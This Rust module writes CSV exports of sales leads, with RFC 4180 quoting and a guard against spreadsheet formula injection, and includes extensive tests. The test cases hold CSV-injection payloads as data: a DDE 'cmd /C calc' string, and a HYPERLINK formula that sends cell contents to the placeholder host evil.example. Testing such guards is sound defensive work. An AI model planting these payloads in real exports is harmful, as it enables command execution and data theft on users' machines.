//! Writing the CSV: a header row of labels, then a row per lead; RFC 4180
//! quoting (the `csv` crate), UTF-8; the formula guard. The defaults (no
//! BOM, `,`, CRLF) are the reference's dialect; `format` may ask for a BOM,
//! `;` or tab, and LF.

use std::borrow::Cow;
use std::io::Write;

use crate::fields::FieldList;
use crate::model::Lead;
use crate::request::{CsvFormat, LineEnding};

/// The cell as a spreadsheet may safely open it: a leading `'` when, after
/// any leading ASCII spaces, the cell starts with `=`, `@`, tab, CR or LF, or
/// starts with `+` or `-` and holds any character other than ASCII digits,
/// the ASCII space and `+ - ( ) . , /`. Phone numbers (`+1-555-0100`,
/// `+49 30 1234567`) and plain numbers (`-5`) stay as they are; `-1.5e3` is
/// guarded (the `e`).
///
/// "Whitespace" is the ASCII space only: a tab, a no-break space or any
/// other character after a leading sign gets the guard. Leading spaces are
/// skipped because LibreOffice's "Trim spaces" import option turns ` =1+1`
/// into a live formula. A cell already starting with `'`, a full-width `＝`
/// (U+FF1D), `﹦`, `⁼`, `＋`, `＠`, `−` (U+2212), a BOM or a no-break space
/// before `=` is left alone: LibreOffice keeps all of these as text
/// (`make spreadsheet-check`).
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if needs_formula_guard(cell.as_bytes()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether [`escape_formula`] prefixes `cell`; bytes only (every byte it
/// looks at is ASCII), the common cell decided by its first byte.
fn needs_formula_guard(cell: &[u8]) -> bool {
    let start = cell.iter().position(|&b| b != b' ').unwrap_or(cell.len());
    let rest = &cell[start..];
    match rest.first() {
        Some(b'=' | b'@' | b'\t' | b'\r' | b'\n') => true,
        Some(b'+' | b'-') => !rest[1..].iter().all(|&b| {
            b.is_ascii_digit() || matches!(b, b' ' | b'+' | b'-' | b'(' | b')' | b'.' | b',' | b'/')
        }),
        _ => false,
    }
}

/// The UTF-8 byte order mark written first with `format.bom`.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV writer with the export's dialect: RFC 4180 quoting where needed
/// (a cell holding the delimiter, `"`, CR or LF is quoted), `format`'s
/// delimiter and line ending; with `format.bom`, the BOM is written to
/// `out` first.
pub fn writer<W: Write>(mut out: W, format: &CsvFormat) -> std::io::Result<csv::Writer<W>> {
    if format.bom {
        out.write_all(BOM)?;
    }
    let terminator = match format.line_ending {
        LineEnding::CrLf => csv::Terminator::CRLF,
        LineEnding::Lf => csv::Terminator::Any(b'\n'),
    };
    Ok(csv::WriterBuilder::new()
        .delimiter(format.delimiter.byte())
        .terminator(terminator)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(out))
}

/// Writes the header row of `fields`.
pub fn write_header<W: Write>(w: &mut csv::Writer<W>, fields: &FieldList) -> csv::Result<()> {
    w.write_record(fields.columns().iter().map(|c| c.header))
}

/// What [`write_row`] reuses from row to row: the row's cells (a
/// `csv::ByteRecord`, written through the `csv` crate's fast path for a
/// whole record) and the scratch of composed cells. One per file.
#[derive(Debug, Default)]
pub struct RowBuf {
    record: csv::ByteRecord,
    scratch: String,
}

/// Writes the row of one lead; with `format.escape_formulas`, each cell
/// through [`escape_formula`] (the one place the guard is applied).
pub fn write_row<W: Write>(
    w: &mut csv::Writer<W>,
    fields: &FieldList,
    lead: &Lead,
    format: &CsvFormat,
    buf: &mut RowBuf,
) -> csv::Result<()> {
    let RowBuf { record, scratch } = buf;
    record.clear();
    for column in fields.columns() {
        let cell = match column.cell_into(lead, scratch) {
            Some(cell) => cell,
            None => scratch.as_str(),
        };
        let cell = if format.escape_formulas {
            escape_formula(cell)
        } else {
            Cow::Borrowed(cell)
        };
        record.push_field(cell.as_bytes());
    }
    w.write_byte_record(record)
}

/// Renders the CSV a row at a time, handing back each row's bytes (the
/// same bytes as [`write_csv`]), for a sink that takes them as they come.
pub struct RowWriter<'f> {
    w: csv::Writer<SharedBuf>,
    out: SharedBuf,
    row: Vec<u8>,
    buf: RowBuf,
    fields: &'f FieldList,
    format: &'f CsvFormat,
    rows: usize,
}

impl<'f> RowWriter<'f> {
    /// A writer of `fields` with `format`.
    /// With `format.bom`, the BOM comes out with the header's bytes.
    pub fn new(fields: &'f FieldList, format: &'f CsvFormat) -> Self {
        let out = SharedBuf::default();
        let w = match writer(out.clone(), format) {
            Ok(w) => w,
            // Writing the BOM into a `Vec` cannot fail.
            Err(_) => unreachable!("an in-memory buffer refused a write"),
        };
        RowWriter {
            w,
            out,
            row: Vec::new(),
            buf: RowBuf::default(),
            fields,
            format,
            rows: 0,
        }
    }

    /// The bytes of the header row.
    pub fn header(&mut self) -> csv::Result<&[u8]> {
        write_header(&mut self.w, self.fields)?;
        self.take()
    }

    /// The bytes of the row of `lead`.
    pub fn row(&mut self, lead: &Lead) -> csv::Result<&[u8]> {
        write_row(&mut self.w, self.fields, lead, self.format, &mut self.buf)?;
        self.rows += 1;
        self.take()
    }

    /// Lead rows rendered so far.
    pub fn rows(&self) -> usize {
        self.rows
    }

    fn take(&mut self) -> csv::Result<&[u8]> {
        self.w.flush()?;
        self.row.clear();
        std::mem::swap(
            &mut *self.out.0.lock().expect("lock poisoned"),
            &mut self.row,
        );
        Ok(&self.row)
    }
}

/// The bytes the CSV writer has flushed, taken by [`RowWriter`].
#[derive(Clone, Default)]
struct SharedBuf(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl Write for SharedBuf {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("lock poisoned").extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Writes the header and one row per lead to `out`.
pub fn write_csv<W: Write>(
    out: W,
    fields: &FieldList,
    leads: &[Lead],
    format: &CsvFormat,
) -> csv::Result<W> {
    let mut w = writer(out, format)?;
    write_header(&mut w, fields)?;
    let mut buf = RowBuf::default();
    for lead in leads {
        write_row(&mut w, fields, lead, format, &mut buf)?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// The whole CSV in memory.
pub fn to_csv(fields: &FieldList, leads: &[Lead], format: &CsvFormat) -> Vec<u8> {
    write_csv(Vec::new(), fields, leads, format).expect("writing to a Vec cannot fail")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fields::Field;

    #[test]
    fn quotes_what_needs_quoting() {
        let lead = Lead {
            id: "1".into(),
            first_name: "Jane".into(),
            last_name: "O\"Neil".into(),
            emails: Some(vec!["a@x.com".into(), "b@y.com".into()]),
            job_title: Some("Head of\nSales".into()),
            city: Some("Zürich".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Emails, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let csv = String::from_utf8(to_csv(&fields, &[lead], &CsvFormat::default())).unwrap();
        assert_eq!(
            csv,
            "Name,Email(s),Job Title,City\r\n\"Jane O\"\"Neil\",\"a@x.com, b@y.com\",\"Head of\nSales\",Zürich\r\n"
        );
    }

    #[test]
    fn header_only_when_no_rows() {
        let csv = to_csv(&FieldList::defaults(), &[], &CsvFormat::default());
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "Name,Email(s),Phone(s),LinkedIn URL,City,Country,Job Title,Company Name\r\n"
        );
    }

    /// (cell, guarded?) for every documented example and the edge cases.
    const CASES: &[(&str, bool)] = &[
        // Formulas and their starts.
        ("=1+1", true),
        ("@SUM(A1)", true),
        ("+SUM(A1)", true),
        ("-2+3+cmd|'/C calc'!A0", true),
        ("=HYPERLINK(\"https://evil.example/?\"&A2&B2,\"x\")", true),
        ("=cmd|' /C calc'!A0", true),
        ("@", true),
        ("=", true),
        ("\t=1", true),
        ("\t", true),
        ("\r\n=1", true),
        ("\n", true),
        ("\rx", true),
        ("-1.5e3", true),
        ("+1 555 0100 ext. 12", true),
        ("-x", true),
        ("+-", false),
        ("+1\t555", true),
        ("+1\u{a0}555", true),
        ("-\u{2212}5", true),
        ("+A1", true),
        ("-5%", true),
        // Phones and numbers stay.
        ("+1-555-0100", false),
        ("+49 30 1234567", false),
        ("+1-555-0100, +1-555-0101", false),
        ("+1 (555) 010-0100", false),
        ("+33.1.23.45.67.89", false),
        ("+1/555/0100", false),
        ("-5", false),
        ("-1.5", false),
        ("-", false),
        ("+", false),
        ("--", false),
        ("12", false),
        // Not a first-character trigger.
        ("", false),
        ("'=1", false),
        ("' =1", false),
        (" =1", true),
        ("   @SUM(A1)", true),
        ("  +SUM(A1)", true),
        (" \t", true),
        (" -5", false),
        (" +1-555-0100", false),
        (" ", false),
        ("\u{a0}=1", false),
        ("\u{3000}=1", false),
        ("a=1", false),
        ("\u{feff}=1", false),
        ("\u{ff1d}1+1", false),
        ("\u{ff0b}SUM(A1)", false),
        ("\u{ff20}SUM(A1)", false),
        ("\u{2212}2+3", false),
        ("\u{fe66}1+1", false),
        ("Head of Sales", false),
        ("Zürich", false),
    ];

    #[test]
    fn formula_guard_table() {
        for &(cell, guarded) in CASES {
            let out = escape_formula(cell);
            if guarded {
                assert_eq!(out, format!("'{cell}"), "{cell:?} should be guarded");
                assert!(matches!(out, Cow::Owned(_)));
            } else {
                assert!(
                    matches!(out, Cow::Borrowed(c) if c == cell),
                    "{cell:?} should stay, got {out:?}"
                );
            }
        }
    }

    #[test]
    fn the_guard_applies_to_every_cell_of_a_row_and_can_be_turned_off() {
        let lead = Lead {
            id: "1".into(),
            first_name: "=1+1".into(),
            last_name: "x".into(),
            phones: Some(vec!["+1-555-0100".into(), "+1-555-0101".into()]),
            job_title: Some("-2+3+cmd|'/C calc'!A0".into()),
            city: Some("@SUM(A1)".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Phones, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let on = String::from_utf8(to_csv(
            &fields,
            std::slice::from_ref(&lead),
            &CsvFormat::default(),
        ));
        assert_eq!(
            on.unwrap(),
            "Name,Phone(s),Job Title,City\r\n'=1+1 x,\"+1-555-0100, +1-555-0101\",'-2+3+cmd|'/C calc'!A0,'@SUM(A1)\r\n"
        );
        let off = CsvFormat {
            escape_formulas: false,
            ..CsvFormat::default()
        };
        let off = String::from_utf8(to_csv(&fields, &[lead], &off));
        assert_eq!(
            off.unwrap(),
            "Name,Phone(s),Job Title,City\r\n=1+1 x,\"+1-555-0100, +1-555-0101\",-2+3+cmd|'/C calc'!A0,@SUM(A1)\r\n"
        );
    }

    /// Cells from every kind of text: any Unicode, CSV specials, triggers.
    fn any_cell() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let piece = prop_oneof![
            any::<char>().prop_map(String::from),
            prop::sample::select(vec![
                "=", "@", "+", "-", "\t", "\r", "\n", "\r\n", "\"", ",", "'", " ", "1", "(", "e",
                "\u{ff1d}", "\u{feff}",
            ])
            .prop_map(String::from),
        ];
        prop::collection::vec(piece, 0..12).prop_map(|p| p.concat())
    }

    /// The columns [`lead_of`] fills, in order.
    const CELL_FIELDS: [Field; 4] = [Field::JobTitle, Field::City, Field::Country, Field::Emails];

    /// A lead whose `CELL_FIELDS` hold `cells` (1 to 4): one each, the
    /// emails the rest from the fourth (or the last) on.
    fn lead_of(cells: &[String]) -> Lead {
        Lead {
            id: "1".into(),
            job_title: Some(cells[0].clone()),
            city: cells.get(1).cloned(),
            country: cells.get(2).cloned(),
            emails: Some(cells[3.min(cells.len() - 1)..].to_vec()),
            ..Lead::default()
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

        /// Written and read back by a strict reader of the same dialect,
        /// every cell equals the guarded value (or the value, guard off).
        #[test]
        fn cells_round_trip_through_a_strict_reader(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let fields = FieldList::from_ids(CELL_FIELDS.map(Field::id)).unwrap();
            let format = CsvFormat { escape_formulas: escape, ..CsvFormat::default() };
            let bytes = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .flexible(false)
                .terminator(csv::Terminator::CRLF)
                .from_reader(&bytes[..]);
            let rows: Vec<csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().unwrap();
            proptest::prop_assert_eq!(rows.len(), 1);
            let expected: Vec<String> = fields
                .fields()
                .iter()
                .map(|f| {
                    let cell = f.cell(&lead);
                    if escape { escape_formula(&cell).into_owned() } else { cell.into_owned() }
                })
                .collect();
            let got: Vec<&str> = rows[0].iter().collect();
            proptest::prop_assert_eq!(got, expected);
        }

        /// The guard adds one `'` or nothing, and a guarded cell no longer
        /// starts with a trigger.
        #[test]
        fn the_guard_only_prefixes(cell in any_cell()) {
            let out = escape_formula(&cell);
            if out.len() != cell.len() {
                proptest::prop_assert_eq!(&*out, format!("'{cell}"));
            } else {
                proptest::prop_assert_eq!(&*out, cell.as_str());
                let first = cell.trim_start_matches(' ').chars().next();
                proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r' | '\n')));
            }
        }

        /// `write_row` (a `ByteRecord` through the `csv` crate's record fast
        /// path, the byte-wise guard) writes the bytes that writing each
        /// guarded cell with `write_field` writes, in every dialect; one
        /// empty cell alone included (`""`).
        #[test]
        fn rows_are_the_bytes_of_field_by_field_writing(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
            bom in proptest::prelude::any::<bool>(),
            delimiter in proptest::sample::select(vec![
                crate::request::Delimiter::Comma,
                crate::request::Delimiter::Semicolon,
                crate::request::Delimiter::Tab,
            ]),
            lf in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let ids = CELL_FIELDS.map(Field::id);
            let fields = FieldList::from_ids(ids[..cells.len().min(4)].iter().copied()).unwrap();
            let format = CsvFormat {
                escape_formulas: escape,
                bom,
                delimiter,
                line_ending: if lf { LineEnding::Lf } else { LineEnding::CrLf },
            };
            let got = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut w = writer(Vec::new(), &format).unwrap();
            write_header(&mut w, &fields).unwrap();
            for field in fields.fields() {
                let cell = field.cell(&lead);
                let cell = if escape { escape_formula(&cell) } else { cell };
                w.write_field(cell.as_bytes()).unwrap();
            }
            w.write_record(None::<&[u8]>).unwrap();
            let expected = w.into_inner().unwrap();
            proptest::prop_assert_eq!(got, expected);
        }

        /// The byte-wise guard decides as the definition reads: skip ASCII
        /// spaces, then the first character.
        #[test]
        fn the_byte_wise_guard_is_the_definition(cell in any_cell()) {
            let rest = cell.trim_start_matches(' ');
            let expected = match rest.chars().next() {
                Some('=' | '@' | '\t' | '\r' | '\n') => true,
                Some('+' | '-') => !rest.chars().skip(1).all(|c| {
                    c.is_ascii_digit() || " +-().,/".contains(c)
                }),
                _ => false,
            };
            proptest::prop_assert_eq!(needs_formula_guard(cell.as_bytes()), expected);
        }
    }
}
